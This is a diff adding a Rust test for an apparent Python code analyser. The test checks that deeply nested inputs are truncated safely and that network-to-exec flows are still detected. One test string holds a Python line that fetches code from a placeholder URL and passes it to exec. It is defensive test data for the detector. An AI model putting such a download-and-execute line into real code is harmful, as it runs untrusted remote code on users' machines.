@@ -406,3 +406,40 @@ fn folding_that_overflows_is_unknown_not_a_panic() {
         let _ = flows(source);
     }
 }
+
+#[test]
+fn a_tree_deeper_than_cpython_compiles_is_not_parsed_and_says_so() {
+    // each nests one level a link; 400,000 levels once overflowed the stack when the tree was
+    // dropped, and a chain of dotted names cost quadratic time
+    let deep = [
+        format!("x = {}1{}", "(".repeat(400_000), ")".repeat(400_000)),
+        format!("x = {}1", "-".repeat(400_000)),
+        format!("x = {}", vec!["1"; 400_000].join("+")),
+        format!("x = a{}", ".b".repeat(400_000)),
+        format!("x = f{}", "()".repeat(400_000)),
+        format!(
+            "{}pass",
+            (0..30_000)
+                .map(|i| format!("{}if x:\n", " ".repeat(i)))
+                .collect::<String>()
+        ),
+    ];
+    for source in &deep {
+        let a = crate::analyse(source);
+        assert!(a.truncated, "{}", &source[..40]);
+        assert!(crate::nesting_bound(source, crate::MAX_NESTING) > crate::MAX_NESTING);
+    }
+    // wide is not deep: a table of 50,000 entries on one line, and honest nesting, are judged
+    let table = format!(
+        "T = {{{}}}\nexec(__import__('urllib.request').urlopen('http://x').read())\n",
+        (0..50_000)
+            .map(|i| format!("{i}: 'v{i}'"))
+            .collect::<Vec<_>>()
+            .join(", ")
+    );
+    assert!(crate::nesting_bound(&table, crate::MAX_NESTING) < 100);
+    assert!(!crate::analyse(&table).truncated);
+    assert!(has(&table, Source::Network, Sink::Exec));
+    let nested = format!("x = {}1{}\nimport os\n", "(".repeat(150), ")".repeat(150));
+    assert!(!crate::analyse(&nested).truncated);
+}
